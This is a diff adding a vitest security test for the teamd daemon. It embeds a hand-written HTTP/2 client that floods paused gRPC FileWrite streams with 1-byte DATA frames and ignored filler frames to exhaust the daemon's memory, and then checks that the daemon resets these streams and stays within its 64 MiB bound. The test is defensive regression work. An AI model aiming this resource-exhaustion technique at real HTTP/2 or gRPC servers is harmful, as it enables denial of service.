@@ -1,0 +1,287 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { appliedTeam } from "../support/applied-team.js";
+import { ensureSeatUser } from "../support/seat-user.js";
+import { ROOT } from "../support/programs.js";
+import { type TeamdHarness } from "../support/teamd-harness.js";
+import { srcWriterTeamFile } from "../support/team-file.js";
+
+/**
+ * Attacks docs/enforcement.md's "One seat cannot exhaust the daemon's memory through its socket"
+ * (bound: 8 connections x 16 streams x (256 KiB message + 256 KiB window) = 64 MiB a seat) on the
+ * path seat-frames-attack.test.ts does not reach: a stream grpc-js has paused.
+ *
+ * grpc-js pauses the node http2 stream once it has decoded a whole message, until the handler
+ * asks for the next (server.ts's readOneAhead: one message ahead). While it is paused the seat
+ * may still send up to the stream's flow-control window (SEAT_STREAM_WINDOW), and node hands each
+ * DATA frame to the stream's Readable as its own Buffer (a view of the socket read it came in,
+ * which it keeps alive) — the bounded decoder (message-decoder.ts) never sees them.
+ *
+ * The stream the daemon does not read: FileWrite. A seat holds at most 2 file contents in the
+ * daemon at once; its further writes wait their turn (daemon/seat/files.ts) after reading their
+ * header, holding one message ahead. Every stream here sends a header (size 8 MiB), a 1-byte data
+ * message, then a third message it never finishes: the two writes that get the turn read it into
+ * the bounded decoder and wait for its end forever, holding the turn; every other stream is
+ * paused with its data message unread, and its third message's bytes go to node's paused stream.
+ * (Push is no candidate: a fifth push is refused at once, git.concurrent; a unary call is read on
+ * after its message, for the half-close, so its further bytes reach the bounded decoder.)
+ *
+ * Shapes: FRAME payload bytes per DATA frame; FILLER bytes of unknown-type HTTP/2 frames (which
+ * HTTP/2 says to ignore, outside flow control) after each DATA frame, so that each DATA frame
+ * arrives in a socket read of its own.
+ */
+const asRoot = process.getuid?.() === 0;
+if (asRoot) ensureSeatUser();
+
+const KIB = 1024;
+const MIB = 1024 * KIB;
+
+/**
+ * The attacker: CONNS connections to SOCKET, STREAMS FileWrite streams each, each sending its
+ * header and a 1-byte data message in one DATA frame, then a third message's prefix declaring
+ * SIZE bytes and up to SIZE - 1 of them in DATA frames of FRAME bytes (each followed by FILLER
+ * bytes of unknown frames), within the flow-control windows the server grants (tracked from its
+ * SETTINGS and WINDOW_UPDATEs). It answers SETTINGS and PING, and once nothing more can be sent
+ * for QUIET ms (the paused streams' windows are spent) holds everything HOLD ms, then prints one
+ * JSON line of what it saw (or at MAX ms in all).
+ */
+const ATTACK = `
+const net = require("net");
+const [socket, conns, streams, size, frame, fillerArg, quiet, hold, max] = process.argv.slice(1);
+const C = +conns, S = +streams, N = +size, F = +frame, FILL = +fillerArg, Q = +quiet, H = +hold;
+const u = (len, type, flags, id) => { const b = Buffer.alloc(9); b.writeUIntBE(len, 0, 3); b[3] = type; b[4] = flags; b.writeUInt32BE(id, 5); return b; };
+const lit = (n, v) => { n = Buffer.from(n); v = Buffer.from(v); return Buffer.concat([Buffer.from([0, n.length]), n, Buffer.from([v.length]), v]); };
+const block = Buffer.concat([lit(":method", "POST"), lit(":scheme", "http"), lit(":path", "/teamd.v1.ShimService/FileWrite"), lit(":authority", "seat"),
+  lit("content-type", "application/grpc"), lit("te", "trailers"), lit("teamd-protocol", process.env.PROTOCOL)]);
+const varint = (n) => { const o = []; while (n > 127) { o.push((n & 127) | 128); n = Math.floor(n / 128); } o.push(n); return Buffer.from(o); };
+const field = (no, bytes) => Buffer.concat([Buffer.from([(no << 3) | 2]), varint(bytes.length), bytes]);
+const grpcMsg = (body) => { const p = Buffer.alloc(5); p.writeUInt32BE(body.length, 1); return Buffer.concat([p, body]); };
+const firstTwo = (tag) => Buffer.concat([
+  grpcMsg(field(1, Buffer.concat([field(1, Buffer.from("paused-" + tag)), field(2, Buffer.from("src/paused-" + tag + ".txt")), field(5, Buffer.from("m")), Buffer.from([6 << 3]), varint(8 * 1024 * 1024)]))),
+  grpcMsg(field(2, Buffer.from("a"))),
+]);
+const fill = [];
+for (let left = FILL; left > 0; ) { const n = Math.min(16384, left - 9); if (n < 0) break; fill.push(u(n, 0x20, 0, 0), Buffer.alloc(n)); left -= 9 + n; }
+const filler = Buffer.concat(fill);
+const stats = { conns: 0, closed: 0, goaway: 0, rst: 0, ended: 0, sent: 0, frames: 0, wire: 0, full: 0, sendMs: -1 };
+const payload = Buffer.alloc(Math.max(F, 16), 0x61);
+const t0 = Date.now();
+let lastSent = -1, lastChange = Date.now(), finishing = false;
+const finish = () => { console.log(JSON.stringify(stats)); process.exit(0); };
+const sts = [];
+setInterval(() => {
+  if (stats.sent !== lastSent) { lastSent = stats.sent; lastChange = Date.now(); return; }
+  if (!finishing && stats.sent > 0 && Date.now() - lastChange >= Q) {
+    finishing = true; stats.sendMs = lastChange - t0; stats.full = sts.filter((s) => s.left === 0).length; setTimeout(finish, H);
+  }
+}, 250);
+function conn(c) {
+  const sock = net.connect(socket);
+  let connWin = 65535, initWin = 65535, buf = Buffer.alloc(0), gone = false, pumping = false, nextId = 1;
+  const st = new Map();
+  sock.on("error", () => {});
+  sock.on("connect", () => stats.conns++);
+  sock.on("close", () => { stats.closed++; gone = true; });
+  sock.write(Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"));
+  sock.write(u(0, 4, 0, 0));
+  for (let i = 0; i < S; i++) {
+    const id = nextId; nextId += 2;
+    const s = { win: 65535, left: N - 1, first: firstTwo(c + "-" + i), started: false, prefixed: false, dead: false };
+    st.set(id, s); sts.push(s);
+    sock.write(Buffer.concat([u(block.length, 1, 4, id), block]));
+  }
+  sock.on("data", (d) => {
+    buf = Buffer.concat([buf, d]);
+    while (buf.length >= 9) {
+      const len = buf.readUIntBE(0, 3), type = buf[3], flags = buf[4], id = buf.readUInt32BE(5) & 0x7fffffff;
+      if (buf.length < 9 + len) break;
+      const p = buf.subarray(9, 9 + len); buf = buf.subarray(9 + len);
+      if (type === 4 && !(flags & 1)) {
+        for (let o = 0; o + 6 <= p.length; o += 6) if (p.readUInt16BE(o) === 4) { const v = p.readUInt32BE(o + 2); for (const s of st.values()) s.win += v - initWin; initWin = v; }
+        sock.write(u(0, 4, 1, 0));
+      } else if (type === 6 && !(flags & 1)) sock.write(Buffer.concat([u(8, 6, 1, 0), p]));
+      else if (type === 8) { const inc = p.readUInt32BE(0) & 0x7fffffff; if (id === 0) connWin += inc; else if (st.has(id)) st.get(id).win += inc; }
+      else if (type === 3) { stats.rst++; if (st.has(id)) st.get(id).dead = true; }
+      else if (type === 7) stats.goaway++;
+      else if (type === 1 && (flags & 1)) { stats.ended++; if (st.has(id)) st.get(id).dead = true; }
+    }
+    pump();
+  });
+  function pump() {
+    if (pumping || gone) return;
+    const out = []; let bytes = 0;
+    for (const [id, s] of st) {
+      if (s.dead) continue;
+      if (!s.started) {
+        if (s.win < s.first.length || connWin < s.first.length) continue;
+        out.push(u(s.first.length, 0, 0, id), s.first); s.win -= s.first.length; connWin -= s.first.length; s.started = true; bytes += 9 + s.first.length;
+      }
+      if (!s.prefixed) {
+        if (s.win < 5 || connWin < 5) continue;
+        const pre = Buffer.alloc(5); pre.writeUInt32BE(N, 1);
+        out.push(u(5, 0, 0, id), pre); s.win -= 5; connWin -= 5; s.prefixed = true; bytes += 14;
+      }
+      while (s.left > 0 && s.win > 0 && connWin > 0 && bytes < 1 << 20) {
+        const n = Math.min(F, s.left, s.win, connWin);
+        out.push(u(n, 0, 0, id), payload.subarray(0, n));
+        if (FILL > 0) out.push(filler);
+        s.left -= n; s.win -= n; connWin -= n; bytes += 9 + n + filler.length; stats.sent += n; stats.frames++; stats.wire += 9 + n + filler.length;
+      }
+    }
+    if (out.length === 0) return;
+    if (sock.write(Buffer.concat(out))) setImmediate(pump);
+    else { pumping = true; sock.once("drain", () => { pumping = false; pump(); }); }
+  }
+}
+for (let c = 0; c < C; c++) conn(c);
+setTimeout(finish, +max);
+`;
+
+const ATTACK_B64 = Buffer.from(ATTACK).toString("base64");
+
+interface Shape {
+  readonly conns: number;
+  readonly streams: number;
+  /** Payload bytes per DATA frame. */
+  readonly frame: number;
+  /** Bytes of ignored (unknown-type) frames after each DATA frame. */
+  readonly filler: number;
+  /** The attacker's whole run, ms (default 200 s). */
+  readonly maxMs?: number;
+}
+
+interface AttackStats {
+  conns: number;
+  closed: number;
+  goaway: number;
+  rst: number;
+  ended: number;
+  sent: number;
+  frames: number;
+  wire: number;
+  /** Streams that sent all of their third message but its last byte (read: the turn holders). */
+  full: number;
+  sendMs: number;
+}
+
+function status(pid: number): { rss: number; hwm: number } {
+  const text = readFileSync(`/proc/${pid}/status`, "utf8");
+  const field = (name: string): number => Number(new RegExp(`${name}:\\s+(\\d+) kB`).exec(text)?.[1] ?? NaN) * KIB;
+  return { rss: field("VmRSS"), hwm: field("VmHWM") };
+}
+
+/** The third message declares 256 KiB (the receive cap): never finished. */
+const SIZE = 256 * KIB;
+const QUIET_MS = 4000;
+const HOLD_MS = 4000;
+/** The 1-byte flood's connections (default 1: 16 streams; ATTACK_CONNS=8 is the whole socket). */
+const ATTACK_CONNS = Number(process.env.ATTACK_CONNS ?? 1);
+/** Probe shapes (not the default run): ignored-frame bytes after each DATA frame, its streams, the attacker's run in ms. */
+const ATTACK_FILLER = Number(process.env.ATTACK_FILLER ?? 0);
+const ATTACK_STREAMS = Number(process.env.ATTACK_STREAMS ?? 16);
+const ATTACK_MAX_MS = process.env.ATTACK_MAX_MS === undefined ? undefined : Number(process.env.ATTACK_MAX_MS);
+const mib = (n: number): string => (n / MIB).toFixed(1);
+
+describe.runIf(process.platform === "linux")("escape: one seat against the daemon's memory, on streams grpc-js has paused", () => {
+  let h: TeamdHarness;
+  let daemonPid: number;
+  let protocol: string;
+
+  /** Runs the attacker in seat alpha, sampling the daemon's RSS every 100 ms until it exits. */
+  const attack = async (label: string, shape: Shape): Promise<{ growth: number; held: number; hwm: number; stats: AttackStats }> => {
+    const before = status(daemonPid);
+    let peak = before.rss;
+    const sampler = setInterval(() => {
+      try {
+        peak = Math.max(peak, status(daemonPid).rss);
+      } catch {
+        /* the daemon is gone: the assertions say so */
+      }
+    }, 100);
+    try {
+      const maxMs = shape.maxMs ?? 200_000;
+      const r = await h.run(
+        [
+          "exec",
+          "--timeout",
+          String(maxMs / 1000 + 10),
+          "alpha@proj",
+          "--",
+          "sh",
+          "-c",
+          `PROTOCOL=${protocol} node -e "$(echo ${ATTACK_B64} | base64 -d)" /run/teamd/shim.sock ${shape.conns} ${shape.streams} ${SIZE} ${shape.frame} ${shape.filler} ${QUIET_MS} ${HOLD_MS} ${maxMs}`,
+        ],
+        { timeoutMs: maxMs + 30_000 },
+      );
+      expect(r.code, r.stderr).toBe(0);
+      const held = status(daemonPid);
+      peak = Math.max(peak, held.rss);
+      const line = r.stdout
+        .trim()
+        .split("\n")
+        .filter((l) => l.startsWith("{"))
+        .pop();
+      if (line === undefined) throw new Error(`the attacker printed no result: ${r.stdout}`);
+      const stats = JSON.parse(line) as AttackStats;
+      const out = { growth: peak - before.rss, held: held.rss - before.rss, hwm: held.hwm, stats };
+      console.log(
+        `${label} (${shape.frame}-byte frames, filler ${shape.filler}, ${shape.conns}x${shape.streams}): sent ${mib(stats.sent)} MiB in ${stats.frames} DATA frames (${mib(stats.wire)} MiB on the wire, ${stats.sendMs} ms); daemon RSS before ${mib(before.rss)} MiB, peak growth ${mib(out.growth)} MiB, held ${mib(out.held)} MiB, VmHWM ${mib(out.hwm)} MiB; ${JSON.stringify(stats)}`,
+      );
+      // Give the daemon its moment to let the abandoned writes go before the next shape.
+      await new Promise((resolve) => setTimeout(resolve, 3000));
+      return out;
+    } finally {
+      clearInterval(sampler);
+    }
+  };
+
+  beforeAll(async () => {
+    h = await appliedTeam("teamd-paused-", srcWriterTeamFile("alpha"), { "README.md": "hello\n" }, { timeoutMs: 60_000 });
+    await h.ok(["start", "--team", "proj", "--json"]);
+    const pid = h.daemon?.child.pid;
+    if (pid === undefined) throw new Error("no daemon pid");
+    daemonPid = pid;
+    protocol = /PROTOCOL_VERSION = (\d+)/.exec(readFileSync(join(ROOT, "src/rpc/protocol.ts"), "utf8"))?.[1] ?? "";
+    expect(protocol).not.toBe("");
+  }, 120_000);
+
+  afterAll(async () => {
+    await h?.cleanup();
+  }, 60_000);
+
+  it("control: 8 connections x 16 paused FileWrites, their windows in 16 KiB DATA frames, stay within the 64 MiB bound", async () => {
+    const shape: Shape = { conns: 8, streams: 16, frame: 16 * KIB, filler: 0 };
+    const r = await attack("control", shape);
+    expect(r.stats.rst + r.stats.goaway + r.stats.ended).toBe(0);
+    expect(r.growth).toBeLessThan(64 * MIB);
+    expect((await h.shim("alpha", "whoami", "--json")).code).toBe(0);
+  }, 300_000);
+
+  it("attack: paused FileWrites sending each 1-byte DATA frame after 64 KiB of frames HTTP/2 ignores are reset, and keep no socket read alive", async () => {
+    // Each byte arrived in a socket read of its own and, a view of it, kept all 64 KiB alive:
+    // 4 streams for 5 s held ~3 GiB for 52 KB of payload. Now a small chunk is copied, and the
+    // stream is reset past its first 64 frames.
+    const shape: Shape = { conns: 1, streams: 4, frame: 1, filler: 64 * KIB - 9, maxMs: 5_000 };
+    const r = await attack("filler", shape);
+    expect(r.stats.rst).toBe(shape.streams);
+    expect(r.growth, `the daemon grew by ${mib(r.growth)} MiB for ${mib(r.stats.sent)} MiB sent`).toBeLessThan(64 * MIB);
+    expect((await h.shim("alpha", "whoami", "--json")).code).toBe(0);
+  }, 300_000);
+
+  it("attack: 16 paused FileWrites, their windows in 1-byte DATA frames, leave the daemon within the 64 MiB bound", async () => {
+    const shape: Shape = {
+      conns: ATTACK_CONNS,
+      streams: ATTACK_STREAMS,
+      frame: 1,
+      filler: ATTACK_FILLER,
+      ...(ATTACK_MAX_MS !== undefined ? { maxMs: ATTACK_MAX_MS } : {}),
+    };
+    const r = await attack("attack", shape);
+    // Each stream is reset (ENHANCE_YOUR_CALM) once its frames average under 1 KiB past its first
+    // 64 (server.ts, boundDataFrames); before, nothing was refused and 16 streams held ~440 MiB.
+    expect(r.stats.rst).toBe(shape.conns * shape.streams);
+    expect(r.growth, `the daemon grew by ${mib(r.growth)} MiB for ${mib(r.stats.sent)} MiB sent`).toBeLessThan(64 * MIB);
+    expect((await h.shim("alpha", "whoami", "--json")).code).toBe(0);
+  }, 300_000);
+});
